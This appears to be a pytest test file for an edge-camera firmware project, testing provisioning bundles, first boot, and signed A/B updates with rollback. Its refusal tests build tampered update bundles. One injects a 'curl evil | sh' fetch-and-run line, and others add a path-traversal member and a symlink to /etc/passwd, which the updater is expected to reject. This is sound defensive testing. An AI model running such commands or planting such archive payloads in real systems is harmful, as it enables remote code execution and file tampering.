"""firmware/: provisioning bundles, first boot, signed A/B updates with rollback, the Jetson install script.

Everything runs the real tools and scripts as subprocesses, the way an installer and a device run them,
against a device laid out under tmp_path (`--root`): /opt/reflex-edge/slots/{a,b} and the `current`
symlink, /etc/reflex-edge, /var/lib/reflex-edge with a real event log. "Changes nothing" is checked by
comparing a snapshot of every file, folder and link under the root (bytes, modes, link targets) before
and after. Building a slot's virtualenv takes minutes and needs the network, so updates run with
--no-venv; the health check is a command each test passes.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import tarfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from argon2 import PasswordHasher

from edge.admin.accounts import Accounts
from edge.config.loader import load_config
from edge.store import EventLog
from edge.store.migrations import LATEST
from edge.types import EventRecord
from tests.conftest import REPO

PYTHON = sys.executable
PROVISION = REPO / "tools" / "provision"
SIGN = REPO / "tools" / "sign_update"
FIRSTBOOT = REPO / "firmware" / "firstboot.py"
UPDATE = REPO / "firmware" / "update.py"
INSTALL = REPO / "firmware" / "install-jetpack.sh"
ADMIN_PASSWORD = "correct horse battery staple"
Snapshot = dict[str, tuple]


def run(cmd: list[str | Path], *, cwd: Path | None = None, env: dict | None = None, timeout: float = 120):
    return subprocess.run(
        [str(c) for c in cmd],
        cwd=cwd,
        env={**os.environ, **(env or {})},
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )


def snapshot(root: Path) -> Snapshot:
    """Every entry under root: folders (mode), files (mode, owner, bytes), symlinks (target)."""
    out: Snapshot = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        st = path.lstat()
        if path.name == ".update.lock":
            continue  # update.py's flock file: not state
        if stat.S_ISLNK(st.st_mode):
            out[rel] = ("link", os.readlink(path))
        elif stat.S_ISDIR(st.st_mode):
            out[rel] = ("dir", stat.S_IMODE(st.st_mode))
        else:
            out[rel] = ("file", stat.S_IMODE(st.st_mode), st.st_uid, st.st_gid, path.read_bytes())
    return out


def diff(a: Snapshot, b: Snapshot) -> list[str]:
    return sorted(k for k in a.keys() | b.keys() if a.get(k) != b.get(k))


# -- provisioning --------------------------------------------------------------------------------------

SITE_CONFIG = """\
# Lobby site. The installer's comments survive provisioning.
data_dir: /var/lib/reflex-edge
cameras:
  lobby:
    source: rtsp://cam.lan/stream1   # entrance camera
mqtt:
  url: mqtts://broker.lan:8883
  username: lobby-edge-1
  password_file: /etc/reflex-edge/mqtt-password
  ca_file: /etc/reflex-edge/ca.pem
"""


@pytest.fixture
def laptop(tmp_path: Path) -> Path:
    """What the installer has at hand: site config, MQTT password, broker CA, admin password, update key."""
    d = tmp_path / "laptop"
    d.mkdir()
    (d / "site.yaml").write_text(SITE_CONFIG)
    (d / "mqtt.pw").write_text("mqtt-s3cret-pw\n")
    (d / "ca.pem").write_text("-----BEGIN CERTIFICATE-----\nMIIBfake\n-----END CERTIFICATE-----\n")
    (d / "admin.pw").write_text(ADMIN_PASSWORD + "\n")
    result = run([PYTHON, SIGN, "keygen", "release"], cwd=d)
    assert result.returncode == 0, result.stderr
    return d


def provision(laptop: Path, *extra: str) -> subprocess.CompletedProcess[str]:
    return run(
        [
            PYTHON, PROVISION, "--config", "site.yaml", "--device-id", "lobby-edge-1",
            "--mqtt-password-file", "mqtt.pw", "--ca", "ca.pem", "--admin-password-file", "admin.pw",
            "--update-key", "release.pub", "--model", REPO / "models" / "yolox_nano.yaml",
            "--out", "prov.tar.gz", *extra,
        ],
        cwd=laptop,
    )  # fmt: skip


def firstboot(root: Path, *extra: str, env: dict | None = None) -> subprocess.CompletedProcess[str]:
    return run([PYTHON, FIRSTBOOT, "--root", root, "--owner", "", *extra], env=env)


def put_on_boot(bundle: Path, root: Path) -> Path:
    boot = root / "boot" / "reflex-provision.tar.gz"
    boot.parent.mkdir(parents=True, exist_ok=True)
    boot.write_bytes(bundle.read_bytes())
    return boot


def test_provision_bundle_holds_a_validated_config_and_no_plain_password(laptop: Path) -> None:
    result = provision(laptop)
    assert result.returncode == 0, result.stderr
    bundle = laptop / "prov.tar.gz"
    assert stat.S_IMODE(bundle.stat().st_mode) == 0o600  # it carries secrets
    raw = gzip.decompress(bundle.read_bytes())
    assert ADMIN_PASSWORD.encode() not in raw
    with tarfile.open(bundle) as tar:
        names = tar.getnames()
        manifest = json.loads(tar.extractfile("manifest.json").read())  # type: ignore[union-attr]
        config = tar.extractfile("etc/config.yaml").read().decode()  # type: ignore[union-attr]
    assert names[0] == "manifest.json"
    assert set(manifest["files"]) == set(names[1:]) == {
        "admin.json", "etc/config.yaml", "etc/mqtt-password", "etc/ca.pem",
        "etc/update-keys/release.pub", "etc/models/yolox_nano.yaml",
    }  # fmt: skip
    assert manifest["device_id"] == "lobby-edge-1"
    assert 'id: "lobby-edge-1"' in config and "# entrance camera" in config  # comments kept


def test_provision_refuses_a_broken_config_and_writes_nothing(laptop: Path) -> None:
    (laptop / "site.yaml").write_text(SITE_CONFIG.replace("  url: mqtts", "  ulr: mqtts"))
    result = provision(laptop)
    assert result.returncode == 1
    assert result.stderr.startswith("provision: site.yaml:") and "ulr" in result.stderr
    assert not (laptop / "prov.tar.gz").exists()


def test_provision_refuses_a_config_naming_files_the_bundle_lacks(laptop: Path) -> None:
    result = run(
        [
            PYTHON,
            PROVISION,
            "--config",
            "site.yaml",
            "--device-id",
            "lobby-edge-1",
            "--no-admin",
            "--out",
            "p.tgz",
        ],
        cwd=laptop,
    )
    assert result.returncode == 1
    assert (
        "mqtt.password_file is /etc/reflex-edge/mqtt-password, which this bundle does not carry"
        in result.stderr
    )
    assert "(pass --mqtt-password-file)" in result.stderr and "(pass --ca)" in result.stderr
    assert not (laptop / "p.tgz").exists()


def _check_provisioned(root: Path) -> None:
    etc = root / "etc" / "reflex-edge"
    modes = {
        p.relative_to(etc).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in etc.rglob("*") if p.is_file()
    }
    assert modes == {
        "config.yaml": 0o600, "mqtt-password": 0o600, "ca.pem": 0o644, "update-keys/release.pub": 0o644,
        "models/yolox_nano.yaml": 0o644, "provisioned.json": 0o644,
    }  # fmt: skip
    cfg, _ = load_config(etc / "config.yaml")
    assert cfg.device.id == "lobby-edge-1"
    assert (etc / "mqtt-password").read_text() == "mqtt-s3cret-pw\n"
    log = EventLog(root / "var" / "lib" / "reflex-edge", reserve_bytes=0)
    try:
        users = log.users()
        assert [(u["name"], u["role"]) for u in users] == [("admin", "admin")]
        PasswordHasher().verify(log.user("admin")["password_hash"], ADMIN_PASSWORD)  # type: ignore[index]
        accounts = Accounts(log)
        assert accounts.verify("admin", ADMIN_PASSWORD) is not None  # the admin page's own login check
        assert accounts.verify("admin", "wrong password here") is None
    finally:
        log.close()


def test_provisioning_twice_gives_the_same_result_as_once(laptop: Path, tmp_path: Path) -> None:
    assert provision(laptop).returncode == 0
    root = tmp_path / "device"
    boot = put_on_boot(laptop / "prov.tar.gz", root)
    first = firstboot(root)
    assert first.returncode == 0, first.stderr
    assert "admin account 'admin' created" in first.stdout
    assert not boot.exists()  # removed once applied
    once = snapshot(root)

    put_on_boot(laptop / "prov.tar.gz", root)
    second = firstboot(root)
    assert second.returncode == 0, second.stderr
    assert "5 files, 0 changed" in second.stdout and "exists already" in second.stdout
    assert diff(once, snapshot(root)) == []  # byte for byte, the event log file included
    _check_provisioned(root)


def test_provisioning_after_a_crash_half_way_ends_where_one_run_ends(laptop: Path, tmp_path: Path) -> None:
    assert provision(laptop).returncode == 0
    clean = tmp_path / "clean"
    put_on_boot(laptop / "prov.tar.gz", clean)
    assert firstboot(clean).returncode == 0

    root = tmp_path / "crashed"
    boot = put_on_boot(laptop / "prov.tar.gz", root)
    crashed = firstboot(root, env={"REFLEX_FIRSTBOOT_CRASH_AT": "3"})  # dies writing the 3rd file
    assert crashed.returncode == 70
    assert boot.exists()  # not applied: it stays for the next boot
    leftovers = [p.name for p in (root / "etc" / "reflex-edge").rglob(".*.tmp")]
    assert len(leftovers) == 1
    again = firstboot(root)
    assert again.returncode == 0, again.stderr
    assert not boot.exists()

    a, b = snapshot(clean), snapshot(root)
    db = "var/lib/reflex-edge/events.db"
    assert diff(a, b) == [db]  # every other file byte for byte; the log differs by its timestamps
    for r in (clean, root):
        conn = sqlite3.connect(r / db)
        rows = conn.execute("SELECT name, role, password_hash FROM users").fetchall()
        assert conn.execute("PRAGMA user_version").fetchone()[0] == LATEST
        conn.close()
        assert rows == [
            ("admin", "admin", json.loads(_member(laptop / "prov.tar.gz", "admin.json"))["password_hash"])
        ]
    _check_provisioned(root)


def _member(bundle: Path, name: str) -> bytes:
    with tarfile.open(bundle) as tar:
        return tar.extractfile(name).read()  # type: ignore[union-attr]


def test_firstboot_refuses_a_tampered_bundle_and_writes_nothing(laptop: Path, tmp_path: Path) -> None:
    assert provision(laptop).returncode == 0
    tampered = tmp_path / "tampered.tar.gz"
    rewrite(laptop / "prov.tar.gz", tampered, {"etc/mqtt-password": b"attacker\n"})
    root = tmp_path / "device"
    boot = put_on_boot(tampered, root)
    before = snapshot(root)
    result = firstboot(root)
    assert result.returncode == 1
    assert (
        result.stderr.strip() == "firstboot: reflex-provision.tar.gz: file etc/mqtt-password: sha256 mismatch"
    )
    assert diff(before, snapshot(root)) == [] and boot.exists()


# -- signed updates ------------------------------------------------------------------------------------


def make_tree(folder: Path, version: str, marker: str = "") -> Path:
    """A small release tree: pyproject (version), a package file, an executable tool."""
    (folder / "edge").mkdir(parents=True)
    (folder / "tools").mkdir()
    (folder / "pyproject.toml").write_text(f'[project]\nname = "reflex-edge"\nversion = "{version}"\n')
    (folder / "edge" / "cli.py").write_text(f"RELEASE = {version!r}  {marker}\n")
    (folder / "tools" / "hello").write_text("#!/bin/sh\necho hello\n")
    (folder / "tools" / "hello").chmod(0o755)
    return folder


@pytest.fixture
def keys(tmp_path: Path) -> Path:
    d = tmp_path / "keys"
    d.mkdir()
    for name in ("release", "rogue"):
        assert run([PYTHON, SIGN, "keygen", name], cwd=d).returncode == 0
    return d


@pytest.fixture
def device(tmp_path: Path, keys: Path) -> Path:
    """Release 0.1.0 installed in slot a (as install-jetpack.sh leaves it), the release key trusted, an
    event log with one event."""
    root = tmp_path / "device"
    slot = make_tree(root / "opt" / "reflex-edge" / "slots" / "a", "0.1.0")
    (slot / ".reflex-release.json").write_text(json.dumps({"version": "0.1.0", "schema": LATEST}))
    (root / "opt" / "reflex-edge" / "current").symlink_to("slots/a")
    (root / "etc" / "reflex-edge" / "update-keys").mkdir(parents=True)
    (root / "etc" / "reflex-edge" / "update-keys" / "release.pub").write_bytes(
        (keys / "release.pub").read_bytes()
    )
    log = EventLog(root / "var" / "lib" / "reflex-edge", reserve_bytes=0)
    log.ensure_camera("lobby", "rtsp://cam.lan/stream1")
    log.event_started(EventRecord("evt-1", "lobby", "person", "after-hours", 0.9, None, time.time(), 12, 0.4))
    log.close()
    return root


def sign_bundle(keys: Path, tree: Path, out: Path, key: str = "release") -> Path:
    result = run(
        [
            PYTHON,
            SIGN,
            "bundle",
            "--key",
            keys / f"{key}.key",
            "--tree",
            tree,
            "--schema",
            str(LATEST),
            "--out",
            out,
        ]
    )
    assert result.returncode == 0, result.stderr
    return out


@pytest.fixture
def good_bundle(tmp_path: Path, keys: Path) -> Path:
    return sign_bundle(keys, make_tree(tmp_path / "rel-0.2.0", "0.2.0"), tmp_path / "update-0.2.0.tar.gz")


def update(root: Path, *args: str | Path, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return run([PYTHON, UPDATE, "--root", root, "--restart-cmd", "", *args], timeout=timeout)


def apply(
    root: Path, bundle: Path | None, health: str = "true", *extra: str
) -> subprocess.CompletedProcess[str]:
    target = [bundle] if bundle is not None else []
    return update(root, "apply", *target, "--no-venv", "--health-cmd", health, *extra)


def rewrite(
    src: Path, dst: Path, replace: dict[str, bytes], add: list[tarfile.TarInfo] | None = None
) -> None:
    """A copy of a bundle with some members' bytes replaced and members added (what an attacker without
    the key can do)."""
    out = io.BytesIO()
    with tarfile.open(src) as tin, tarfile.open(fileobj=out, mode="w:gz") as tout:
        for member in tin.getmembers():
            data = tin.extractfile(member).read()  # type: ignore[union-attr]
            data = replace.get(member.name, data)
            member.size = len(data)
            tout.addfile(member, io.BytesIO(data))
        for extra in add or []:
            tout.addfile(extra, io.BytesIO(b"x" * extra.size) if extra.isfile() else None)
    dst.write_bytes(out.getvalue())


def slot(root: Path, name: str) -> Path:
    return root / "opt" / "reflex-edge" / "slots" / name


def current(root: Path) -> str:
    return os.readlink(root / "opt" / "reflex-edge" / "current")


def test_a_good_bundle_installs_into_the_inactive_slot_and_switches(device: Path, good_bundle: Path) -> None:
    result = apply(device, good_bundle, "sh -c 'grep -q 0.2.0 {current}/pyproject.toml'")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "0.2.0 is active in slot b" in result.stdout
    assert current(device) == "slots/b"
    b = slot(device, "b")
    assert (b / "edge" / "cli.py").read_text() == "RELEASE = '0.2.0'  \n"
    assert os.access(b / "tools" / "hello", os.X_OK) and not os.access(b / "edge" / "cli.py", os.X_OK)
    assert json.loads((b / ".reflex-release.json").read_text())["version"] == "0.2.0"
    assert (slot(device, "a") / "edge" / "cli.py").read_text() == "RELEASE = '0.1.0'  \n"  # kept for rollback
    assert not (device / "opt" / "reflex-edge" / "slots" / ".incoming").exists()
    backups = list((device / "var" / "lib" / "reflex-edge" / "backups").glob("events-0.1.0-*.db"))
    assert len(backups) == 1
    assert sqlite3.connect(backups[0]).execute("SELECT id FROM events").fetchall() == [("evt-1",)]

    status = json.loads(update(device, "status", "--json").stdout)
    assert status["active"] == {"slot": "b", "version": "0.2.0"}
    assert status["standby"] == {"slot": "a", "version": "0.1.0"}
    assert status["last_update"]["state"] == "ok"

    back = update(device, "rollback")
    assert back.returncode == 0, back.stderr
    assert current(device) == "slots/a"


def test_apply_from_the_inbox_takes_the_newest_bundle(device: Path, keys: Path, tmp_path: Path) -> None:
    inbox = device / "var" / "lib" / "reflex-edge" / "updates"
    inbox.mkdir()
    for version in ("0.1.5", "0.3.0", "0.2.0"):
        sign_bundle(keys, make_tree(tmp_path / f"rel-{version}", version), inbox / f"u-{version}.tar.gz")
    result = apply(device, None)
    assert result.returncode == 0, result.stderr
    assert "0.3.0 is active in slot b" in result.stdout
    assert sorted(p.name for p in inbox.iterdir()) == []  # installed and older ones removed
    again = apply(device, None)
    assert again.returncode == 0 and "nothing to do" in again.stdout


REFUSALS: dict[str, tuple[Callable[[Path, Path, Path], None], str]] = {}


def refusal(name: str, message: str):
    def register(fn: Callable[[Path, Path, Path], None]):
        REFUSALS[name] = (fn, message)
        return fn

    return register


@refusal("tampered file", "update: file edge/cli.py: sha256 mismatch")
def _tampered(good: Path, out: Path, keys: Path) -> None:
    rewrite(good, out, {"release/edge/cli.py": b"import os; os.system('curl evil | sh')\n"})


@refusal("bad signature", "update: bad signature: manifest.sig does not verify with trusted key")
def _bad_signature(good: Path, out: Path, keys: Path) -> None:
    manifest = json.loads(_member(good, "manifest.json"))
    manifest["version"] = "9.9.9"  # changed after signing
    rewrite(good, out, {"manifest.json": json.dumps(manifest, indent=1, sort_keys=True).encode() + b"\n"})


@refusal("wrong key", "update: bad signature: signed by no trusted key")
def _wrong_key(good: Path, out: Path, keys: Path) -> None:
    sign_bundle(keys, make_tree(out.parent / "rogue-tree", "0.2.0"), out, key="rogue")


@refusal("not newer", "update: version 0.1.0 is not newer than 0.1.0 (active)")
def _not_newer(good: Path, out: Path, keys: Path) -> None:
    sign_bundle(keys, make_tree(out.parent / "old-tree", "0.1.0"), out)


@refusal("file outside the manifest", "update: file edge/backdoor.py: in the bundle but not in the manifest")
def _extra_file(good: Path, out: Path, keys: Path) -> None:
    info = tarfile.TarInfo("release/edge/backdoor.py")
    info.size = 10
    rewrite(good, out, {}, [info])


@refusal("path with ..", "update: bundle member '../../../escaped': '..' leaves the release tree")
def _dotdot(good: Path, out: Path, keys: Path) -> None:
    info = tarfile.TarInfo("release/../../../escaped")
    info.size = 10
    rewrite(good, out, {}, [info])


@refusal("symlink out", "update: bundle member 'edge/passwd' is a symlink (to '/etc/passwd'); only files")
def _symlink(good: Path, out: Path, keys: Path) -> None:
    info = tarfile.TarInfo("release/edge/passwd")
    info.type = tarfile.SYMTYPE
    info.linkname = "/etc/passwd"
    rewrite(good, out, {}, [info])


@refusal("missing file", "update: file tools/hello: in the manifest but not in the bundle")
def _missing(good: Path, out: Path, keys: Path) -> None:
    buf = io.BytesIO()
    with tarfile.open(good) as tin, tarfile.open(fileobj=buf, mode="w:gz") as tout:
        for member in tin.getmembers():
            if member.name != "release/tools/hello":
                tout.addfile(member, tin.extractfile(member))
    out.write_bytes(buf.getvalue())


@pytest.mark.parametrize("case", list(REFUSALS))
def test_a_bad_bundle_is_refused_with_one_line_and_changes_nothing(
    case: str, device: Path, good_bundle: Path, keys: Path, tmp_path: Path
) -> None:
    make, message = REFUSALS[case]
    bad = tmp_path / "bad" / "update.tar.gz"
    bad.parent.mkdir()
    make(good_bundle, bad, keys)
    before = snapshot(tmp_path)
    result = apply(device, bad, "sh -c 'echo the health check ran; exit 1'")
    assert result.returncode == 1
    assert result.stderr.startswith(message), result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert "health check" not in result.stdout
    assert diff(before, snapshot(tmp_path)) == []  # slots, symlink, event log, and nothing outside the root
    assert current(device) == "slots/a"


def test_a_bundle_failing_its_health_check_is_rolled_back_and_the_event_log_restored(
    device: Path, good_bundle: Path, tmp_path: Path
) -> None:
    """The new release migrates the event log (schema LATEST + 1, which 0.1.0 refuses to open), then
    fails its health check: the slot switches back and the log is restored from the backup."""
    migrate_and_fail = tmp_path / "new_release_check.py"
    migrate_and_fail.write_text(
        "import sqlite3, sys\n"
        "db = sqlite3.connect(sys.argv[1])\n"
        "db.execute('CREATE TABLE notes (id INTEGER PRIMARY KEY, text TEXT)')\n"
        f"db.execute('PRAGMA user_version = {LATEST + 1}')\n"
        "db.commit()\n"
        "print('doctor: FAIL camera lobby: unreachable')\n"
        "sys.exit(1)\n"
    )
    data = device / "var" / "lib" / "reflex-edge"
    slot_a = {k: v for k, v in snapshot(slot(device, "a")).items()}
    result = apply(device, good_bundle, f"{PYTHON} {migrate_and_fail} {{data}}/events.db")
    assert result.returncode == 3, result.stdout + result.stderr
    assert (
        "0.2.0 failed its health check (exit status 1: doctor: FAIL camera lobby: unreachable)"
        in result.stdout
    )
    assert "rolled back to 0.1.0 in slot a" in result.stdout
    assert f"schema {LATEST + 1} -> {LATEST}" in result.stdout
    assert current(device) == "slots/a"
    assert snapshot(slot(device, "a")) == slot_a

    log = EventLog(data, reserve_bytes=0)  # 0.1.0's code opens it (it refuses a newer schema)
    try:
        assert [e["id"] for e in log.events()] == ["evt-1"]
    finally:
        log.close()
    conn = sqlite3.connect(data / "events.db")
    assert conn.execute("PRAGMA user_version").fetchone()[0] == LATEST
    assert conn.execute("SELECT name FROM sqlite_master WHERE name = 'notes'").fetchall() == []
    conn.close()

    status = json.loads(update(device, "status", "--json").stdout)["last_update"]
    assert status["state"] == "rolled-back" and [f["version"] for f in status["failed"]] == ["0.2.0"]
    inbox = data / "updates"
    inbox.mkdir()
    (inbox / good_bundle.name).write_bytes(good_bundle.read_bytes())
    skipped = apply(device, None)
    assert skipped.returncode == 0 and "nothing to do" in skipped.stdout
    assert "0.2.0 failed its health check before" in skipped.stderr


def test_a_health_check_that_hangs_is_timed_out_and_rolled_back(device: Path, good_bundle: Path) -> None:
    db = device / "var" / "lib" / "reflex-edge" / "events.db"
    log_before = db.read_bytes()
    started = time.monotonic()
    result = apply(device, good_bundle, "sleep 60", "--health-timeout", "1")
    assert time.monotonic() - started < 30
    assert result.returncode == 3
    assert "(timed out after 1 s)" in result.stdout and "event log untouched" in result.stdout
    assert current(device) == "slots/a"
    assert db.read_bytes() == log_before


def test_an_update_cut_off_before_its_verdict_is_checked_by_the_next_run(
    device: Path, good_bundle: Path
) -> None:
    cut = run(
        [PYTHON, UPDATE, "--root", device, "--restart-cmd", "", "apply", good_bundle, "--no-venv"],
        env={"REFLEX_UPDATE_CRASH": "after-switch"},
    )
    assert cut.returncode == 70 and current(device) == "slots/b"  # switched, never checked
    result = apply(device, None, "false")
    assert result.returncode == 3, result.stdout + result.stderr
    assert (
        "the update to 0.2.0 was cut off before its health check finished; checking it now" in result.stdout
    )
    assert "rolled back to 0.1.0 in slot a" in result.stdout
    assert current(device) == "slots/a"


def test_sign_update_bundles_the_commit_git_tracks(tmp_path: Path, keys: Path) -> None:
    head = run(["git", "-C", REPO, "ls-tree", "-r", "--name-only", "HEAD"])
    if head.returncode != 0:
        pytest.skip("not a git checkout")
    out = tmp_path / "head.tar.gz"
    result = run([PYTHON, SIGN, "bundle", "--key", keys / "release.key", "--out", out])
    assert result.returncode == 0, result.stderr
    manifest = json.loads(_member(out, "manifest.json"))
    assert sorted(manifest["files"]) == sorted(head.stdout.split())
    assert manifest["schema"] == LATEST
    commit = run(["git", "-C", REPO, "rev-parse", "HEAD"]).stdout.strip()
    assert manifest["commit"] == commit
    verified = run([PYTHON, SIGN, "verify", out, "--keys", keys / "release.pub"])
    assert verified.returncode == 0 and verified.stdout.endswith(": OK\n")
    rogue = run([PYTHON, SIGN, "verify", out, "--keys", keys / "rogue.pub"])
    assert rogue.returncode == 1 and "signed by no trusted key" in rogue.stderr


# -- the Jetson install script -------------------------------------------------------------------------


def test_install_jetpack_is_bash_n_and_shellcheck_clean() -> None:
    syntax = run(["bash", "-n", INSTALL])
    assert syntax.returncode == 0, syntax.stderr
    if shutil.which("shellcheck") is None:
        pytest.skip("shellcheck is not installed (apt-get install shellcheck); bash -n passed")
    lint = run(["shellcheck", INSTALL])
    assert lint.returncode == 0, lint.stdout


def test_install_jetpack_dry_run_here_says_this_is_not_a_jetson(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    result = run(["bash", INSTALL, "--dry-run", "--root", root])
    out = result.stdout + result.stderr
    assert result.returncode == 1, out
    assert "FAIL: this is not a Jetson" in out and "nv_tegra_release not found" in out
    assert "would run: /usr/bin/python3 -m venv --system-site-packages" in out
    assert "a real run would stop before the first step" in out
    assert list(root.iterdir()) == []  # a dry run changes nothing


@pytest.mark.parametrize(
    ("release", "ok", "expect"),
    [
        (
            "# R36 (release), REVISION: 4.3, GCID: 1, BOARD: generic, EABI: aarch64, DATE: x",
            True,
            "L4T R36.4.3",
        ),
        (
            "# R35 (release), REVISION: 5.0, GCID: 1, BOARD: t186ref, EABI: aarch64, DATE: x",
            False,
            "JetPack 5 or older",
        ),
    ],
    ids=["jetpack6", "jetpack5"],
)
def test_install_jetpack_dry_run_on_a_jetson_checks_jetpack_and_tensorrt(
    tmp_path: Path, release: str, ok: bool, expect: str
) -> None:
    """A Jetson's files (nv_tegra_release under --root) and a python3 that has tensorrt 10 and pycuda."""
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc" / "nv_tegra_release").write_text(release + "\n")
    site = tmp_path / "jetpack-site"
    for name, body in (("tensorrt", "__version__ = '10.3.0'\n"), ("pycuda", "")):
        (site / name).mkdir(parents=True)
        (site / name / "__init__.py").write_text(body)
    python = tmp_path / "python3"
    python.write_text(f'#!/bin/sh\nPYTHONPATH={site} exec {PYTHON} "$@"\n')
    python.chmod(0o755)
    result = run(["bash", INSTALL, "--dry-run", "--root", root, "--python", python])
    out = result.stdout + result.stderr
    assert (result.returncode == 0) is ok, out
    assert expect in out
    if ok:
        assert "TensorRT 10.3.0: OK" in out and "pycuda: OK" in out
        assert (
            f"would run: {python} -m venv --system-site-packages {root}/opt/reflex-edge/slots/a/.venv" in out
        )
        assert "-e " + f"{root}/opt/reflex-edge/slots/a\\[jetson\\]" in out
        assert "the checks passed" in out
    assert sorted(p.name for p in (root / "etc").iterdir()) == ["nv_tegra_release"]
